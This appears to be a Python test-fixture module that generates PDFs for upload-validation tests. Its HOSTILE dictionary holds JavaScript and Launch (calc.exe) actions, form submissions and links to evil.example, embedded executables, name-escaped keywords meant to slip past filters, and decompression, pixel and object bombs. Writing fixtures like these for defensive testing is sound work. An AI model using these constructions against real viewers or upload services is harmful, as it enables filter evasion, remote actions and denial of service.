"""Documents to upload as evidence, and hostile files."""

import zlib
from base64 import a85encode
from io import BytesIO

from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import copy_into_new_writer

from tests.api.checkout import files

_BOX = "/MediaBox [0 0 595 842]"
_ALERT = "<</S /JavaScript /JS (app.alert\\(1\\))>>"
_WEB = "<</S /URI /URI (https://evil.example/)>>"
_IMAGE = "/XObject <</I 9 0 R>>"


def a_pdf(
    root: str = "", page: str = "", *more: str | bytes, pages: int = 1, box: str = _BOX
) -> bytes:
    """Return a PDF; `root` and `page` are further entries, and `more` its objects from 9 on."""
    kids = " ".join(["3 0 R"] * pages)
    objects: dict[int, str | bytes] = {
        1: f"<</Type /Catalog /Pages 2 0 R {root}>>",
        2: f"<</Type /Pages /Kids [{kids}] /Count {pages}>>",
        3: f"<</Type /Page /Parent 2 0 R {box} {page}>>",
    }
    objects |= {number: one for number, one in enumerate(more, start=9)}  # noqa: C416
    return assembled(objects)


def assembled(objects: dict[int, str | bytes], trailer: str = "") -> bytes:
    """Return a PDF of these objects, with its cross-reference table."""
    written, places = bytearray(b"%PDF-1.7\n"), {}
    for number, content in objects.items():
        places[number] = len(written)
        body = content if isinstance(content, bytes) else content.encode()
        written += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    most = max(objects) + 1
    lines = [f"{places[n]:010} 00000 n \n" if n in places else "0000000000 65535 f \n"
             for n in range(most)]  # fmt: skip
    table = f"xref\n0 {most}\n{''.join(lines)}trailer\n<</Size {most} /Root 1 0 R {trailer}>>\n"
    end = f"startxref\n{len(written)}\n%%EOF\n"
    return bytes(written) + table.encode() + end.encode()


def a_stream(entries: str, data: bytes) -> bytes:
    return f"<<{entries} /Length {len(data)}>>\nstream\n".encode() + data + b"\nendstream"


def with_many_pages(count: int) -> bytes:
    numbers = range(10, 10 + count)
    return assembled(
        {1: "<</Type /Catalog /Pages 2 0 R>>",
         2: f"<</Type /Pages /Kids [{' '.join(f'{n} 0 R' for n in numbers)}] /Count {count}>>",
         **dict.fromkeys(numbers, f"<</Type /Page /Parent 2 0 R {_BOX}>>")}
    )  # fmt: skip


def locked(to_open: str = "user") -> bytes:
    """Return a PDF that opens with this password, or without one, but is encrypted."""
    writer = copy_into_new_writer(PdfFileReader(BytesIO(a_pdf())))
    writer.encrypt("owner", to_open)
    written = BytesIO()
    writer.write(written)
    return written.getvalue()


def in_an_object_stream(action: str = _ALERT) -> bytes:
    """Return a PDF whose action is in a compressed object stream."""
    writer = copy_into_new_writer(PdfFileReader(BytesIO(a_pdf(f"/OpenAction {action}"))))
    writer.stream_xrefs = True
    written = BytesIO()
    writer.write(written)
    return written.getvalue()


def _unfolding() -> bytes:
    """Return a stream of more than the 64 MiB that are read, compressed twice."""
    once = zlib.compress(bytes(80 * 1024 * 1024), 1)
    return a_stream("/Filter [/FlateDecode /FlateDecode]", zlib.compress(once, 9))


def _as_a_picture(filters: str = "/FlateDecode") -> bytes:
    """Return a stream that unpacks to more than any picture, and claims to be one."""
    packer = zlib.compressobj()
    first, again = (
        packer.compress(bytes(1024**2)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2)
    )
    data = first + again * 299
    if filters != "/FlateDecode":
        data = zlib.compress(data)
    return a_stream(f"/Subtype /Image /Width 9 /Height 9 /Filter [{filters}]", data)


def scanned(*filters: str) -> bytes:
    """Return a PDF of a page that was scanned at a high resolution, packed in one of many ways."""
    pack = {"/FlateDecode": zlib.compress, "/ASCII85Decode": lambda one: a85encode(one) + b"~>"}
    if "/DCTDecode" in filters:
        data = files.a_picture("JPEG", (5000, 5000))
    else:
        data = bytes(5000 * 5000 * 3)
    for name in reversed(filters):
        data = pack.get(name, bytes)(data)
    return _picture(f"/Width 5000 /Height 5000 /Filter [{' '.join(filters)}]", data)


def _picture(entries: str, data: bytes = b"x") -> bytes:
    """Return a PDF that draws a picture."""
    return a_pdf("", f"/Resources <<{_IMAGE}>>", a_stream(f"/Subtype /Image {entries}", data))


def _in_page(action: str) -> str:
    return f"/Annots [<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {action}>>]"


_FILE = "<</Type /Filespec /F (a.exe) /EF <</F 9 0 R>>>>"
# The head of a JPEG file is enough to say that it has 65,000 × 65,000 pixels.
_LARGE_JPEG = files.a_picture("JPEG", (64, 64)).replace(
    b"\x08\x00\x40\x00\x40", b"\x08\xfd\xe8\xfd\xe8", 1
)
#: PDFs with something that no viewer shows.
BEHIND: dict[str, bytes] = {
    "unused-script.pdf": a_pdf("", "", _ALERT),
    "zip-behind.pdf": a_pdf() + files.a_zip(),
    "html-behind.pdf": a_pdf() + b"<script>alert(1)</script>",
    "junk-before.pdf": b"MZ\n" + a_pdf(),
}
#: What is a picture that may be a logo no longer, but is a fine document.
_FINE = {"twelve-megapixels.png", "large.jpg", "too-large.png"}
#: By name as uploaded. Many claim to be what they are not.
HOSTILE: dict[str, bytes] = {
    **{name: data for name, data in files.HOSTILE.items() if name not in _FINE},
    "open-script.pdf": a_pdf(f"/OpenAction {_ALERT}"),
    "named-script.pdf": a_pdf(f"/Names <</JavaScript <</Names [(a) {_ALERT}]>>>>"),
    "escaped-script.pdf": a_pdf("/OpenAction <</S /J#61vaScript /J#53 (app.alert\\(1\\))>>"),
    "script-in-a-stream.pdf": a_pdf(
        "/OpenAction <</S /JavaScript /JS 9 0 R>>", "", a_stream("", b"app.alert(1)")
    ),
    "packed-script.pdf": in_an_object_stream(),
    "page-script.pdf": a_pdf("", f"/AA <</O {_ALERT}>>"),
    "link-script.pdf": a_pdf("", _in_page(_ALERT)),
    "next-script.pdf": a_pdf("", _in_page(f"<</S /GoTo /D [3 0 R /Fit] /Next {_ALERT}>>")),
    "launch.pdf": a_pdf("/OpenAction <</S /Launch /F (calc.exe)>>"),
    "escaped-launch.pdf": a_pdf("/OpenAction <</S /L#61unch /F (calc.exe)>>"),
    "send-form.pdf": a_pdf("", _in_page("<</S /SubmitForm /F (https://evil.example/)>>")),
    "import.pdf": a_pdf("", _in_page("<</S /ImportData /F (a.fdf)>>")),
    "other-file.pdf": a_pdf("/OpenAction <</S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit]>>"),
    "embedded-link.pdf": a_pdf("/OpenAction <</S /GoToE /D [0 /Fit]>>"),
    "xfa.pdf": a_pdf("/AcroForm <</Fields [] /XFA 9 0 R>>", "", a_stream("", b"<xdp/>")),
    "attached.pdf": a_pdf(
        f"/Names <</EmbeddedFiles <</Names [(a.exe) {_FILE}]>>>>", "", a_stream("", b"MZ")
    ),
    "attached-to-page.pdf": a_pdf("", f"/AF [{_FILE}]", a_stream("", b"MZ")),
    "portfolio.pdf": a_pdf("/Collection <</View /T>>"),
    "rich-media.pdf": a_pdf("", "/Annots [<</Subtype /RichMedia /RichMediaContent <<>>>>]"),
    "film.pdf": a_pdf("", _in_page("<</S /Movie /T (a)>>")),
    "sound.pdf": a_pdf("", _in_page("<</S /Sound>>")),
    "postscript.pdf": a_pdf("", f"/Resources <<{_IMAGE}>>", a_stream("/PS 9 0 R", b"quit")),
    "locked.pdf": locked(),
    "open-web.pdf": a_pdf(f"/OpenAction {_WEB}"),
    "open-web-elsewhere.pdf": a_pdf("/OpenAction 9 0 R", "", _WEB),
    "kind-elsewhere.pdf": a_pdf(
        "/OpenAction <</S 9 0 R /F (a.exe)>>", "", "/L#61unch"
    ),
    "picture-elsewhere.pdf": a_pdf(
        "", f"/Resources <<{_IMAGE}>>",
        a_stream("/Subtype 10 0 R /Width 11 0 R /Height 11 0 R", b"x"), "/Image", "90000",
    ),
    "page-elsewhere.pdf": a_pdf("", "", "[0 0 1000000 1000000]", box="/MediaBox 9 0 R"),
    "open-then-web.pdf": a_pdf(f"/OpenAction <</S /GoTo /D [3 0 R /Fit] /Next {_WEB}>>"),
    "open-nothing-known.pdf": a_pdf(f"/OpenAction <</D [3 0 R /Fit] /Next [{_WEB}]>>"),
    "open-named.pdf": a_pdf("/OpenAction <</S /Named /N /Print>>"),
    "shown-web.pdf": a_pdf("", f"/AA <</O {_WEB}>>"),
    "closed-web.pdf": a_pdf(f"/AA <</WC {_WEB}>>"),
    "entered-web.pdf": a_pdf(
        "", f"/Annots [<</Subtype /Link /Rect [0 0 9 9] /AA <</E {_WEB}>>>>]"
    ),
    "packed-web.pdf": in_an_object_stream(_WEB),
    "outside-stream.pdf": a_pdf("", "/Contents 9 0 R", a_stream("/F (\\\\evil\\a)", b"")),
    "outside-picture.pdf": _picture("/Width 9 /Height 9 /F <</FS /URL /F (https://evil.example)>>"),
    "outside-page.pdf": a_pdf(
        "", f"/Resources <<{_IMAGE}>>",
        a_stream("/Subtype /Form /BBox [0 0 9 9] /Ref <</F (a.pdf) /Page 0>>", b""),
    ),
    "outside-proxy.pdf": a_pdf(
        "", f"/Resources <<{_IMAGE}>>",
        a_stream("/Subtype /Form /BBox [0 0 9 9] /OPI <</1.3 <</F (a.tif)>>>>", b""),
    ),
    "outside-related.pdf": a_pdf("", "/AF [<</Type /Filespec /FS /URL /F (https://evil.example)>>]"),
    "clip.pdf": a_pdf("", "/Annots [<</Subtype /FileAttachment /FS (a.exe) /Rect [0 0 9 9]>>]"),
    "screen.pdf": a_pdf("", "/Annots [<</Subtype /Screen /Rect [0 0 9 9]>>]"),
    "postscript-drawing.pdf": a_pdf(
        "", f"/Resources <<{_IMAGE}>>", a_stream("/Subtype /PS", b"quit")
    ),
    "page-as-picture.pdf": a_pdf("", "/Contents 9 0 R", _as_a_picture()),
    "pages-as-picture.pdf": a_pdf("", "/Contents [9 0 R]", _as_a_picture()),
    "unfolding-picture.pdf": a_pdf("", f"/Resources <<{_IMAGE}>>", _as_a_picture()),
    "unfolding-twice.pdf": a_pdf(
        "", f"/Resources <<{_IMAGE}>>", _as_a_picture("/FlateDecode /FlateDecode")
    ),
    "unknown-filter.pdf": _picture("/Width 9 /Height 9 /Filter /LZWDecode"),
    "negative-picture.pdf": _picture("/Width -90000 /Height 90000"),
    "both-negative.pdf": _picture("/Width -9 /Height -9"),
    "no-size.pdf": _picture(""),
    "negative-unit.pdf": a_pdf("", "/UserUnit -100000"),
    "large-jpeg-inside.pdf": _picture(
        "/Width 9 /Height 9 /Filter /DCTDecode", _LARGE_JPEG
    ),
    "page-bomb.pdf": with_many_pages(5000),
    "object-bomb.pdf": assembled(
        {1: "<</Type /Catalog /Pages 2 0 R /A 5 0 R>>",
         2: "<</Type /Pages /Kids [3 0 R] /Count 1>>",
         3: f"<</Type /Page /Parent 2 0 R {_BOX}>>",
         5: f"[{' '.join(f'{n} 0 R' for n in range(6, 31_000))}]",
         **dict.fromkeys(range(6, 70000), "<<>>")}
    ),
    "pixel-bomb.pdf": a_pdf(
        "", f"/Resources <<{_IMAGE}>>",
        a_stream("/Subtype /Image /Width 90000 /Height 90000", b"x"),
    ),
    "huge-page.pdf": a_pdf(box="/MediaBox [0 0 1000000 1000000]"),
    "unfolding.pdf": a_pdf("", "/Contents 9 0 R", _unfolding()),
    "no-pages.pdf": assembled(
        {1: "<</Type /Catalog /Pages 2 0 R>>", 2: "<</Type /Pages /Kids []>>"}
    ),
    "circle.pdf": assembled({1: "<</Type /Catalog /Pages 1 0 R>>"}),
    "deep.pdf": a_pdf("/A " + "[" * 5000 + "]" * 5000),
    "half.pdf": a_pdf("", "/Contents 9 0 R", a_stream("", bytes(500)))[:500],
    "revision-cut.pdf": a_pdf() + b"9 0 obj\n<</Type /Page",
    "header-alone.pdf": b"%PDF-1.7\n%%EOF\n",
}  # fmt: skip
